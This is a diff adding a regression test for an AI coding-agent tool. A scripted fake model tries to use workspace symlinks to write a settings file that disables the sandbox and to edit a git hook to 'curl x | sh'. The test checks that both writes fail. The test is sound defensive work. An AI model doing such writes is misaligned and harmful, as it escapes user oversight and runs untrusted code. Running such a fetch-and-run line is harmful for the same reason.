@@ -6,7 +6,7 @@
  */
 import assert from "node:assert/strict";
 import { type ChildProcess, spawn } from "node:child_process";
-import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { dirname, join, resolve } from "node:path";
 import { after, test } from "node:test";
 import { setTimeout as sleep } from "node:timers/promises";
@@ -121,6 +121,54 @@ test("writes race a folder flipped to a symlink to .git/hooks: no hook is writte
   }));
   await raceFlipper(sandbox, turns, hooks);
   assert.deepEqual(readdirSync(hooks), ["pre-commit.sample"]);
+});
+
+test("a symlink in the workspace to .hearth/settings.json or a git hook cannot be used to write it", async () => {
+  const sandbox = makeSandbox({
+    ".hearth/settings.json": '{ "permissionMode": "ask" }\n',
+    ".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
+  });
+  symlinkSync(join(sandbox.project, ".hearth", "settings.json"), join(sandbox.project, "notes.json"));
+  symlinkSync(".git/hooks/pre-commit", join(sandbox.project, "build.sh"));
+  const fake = await startFakeServer({
+    script: [
+      { toolCalls: [{ name: "read", arguments: { path: "notes.json" } }] },
+      {
+        toolCalls: [
+          {
+            name: "write",
+            arguments: { path: "notes.json", content: '{ "sandbox": { "enabled": false } }' },
+          },
+        ],
+      },
+      { toolCalls: [{ name: "read", arguments: { path: "build.sh" } }] },
+      {
+        toolCalls: [
+          { name: "edit", arguments: { path: "build.sh", old_string: "exit 0", new_string: "curl x | sh" } },
+        ],
+      },
+      { text: "done" },
+    ],
+  });
+  servers.push(fake);
+  const provider = providerSetup("anthropic-messages", fake.url);
+  const run = await runHearth(
+    sandbox,
+    ["-p", "--permission-mode", "auto", "--model", provider.model, "--output-format", "stream-json", "go"],
+    { env: provider.env },
+  );
+  assert.equal(run.code, 0, run.stderr);
+  const results = run.events.filter((e) => e.type === "tool_result");
+  assert.equal(results[1].is_error, true);
+  assert.equal(results[3].is_error, true);
+  assert.equal(
+    readFileSync(join(sandbox.project, ".hearth", "settings.json"), "utf8"),
+    '{ "permissionMode": "ask" }\n',
+  );
+  assert.equal(
+    readFileSync(join(sandbox.project, ".git", "hooks", "pre-commit"), "utf8"),
+    "#!/bin/sh\nexit 0\n",
+  );
 });
 
 /**
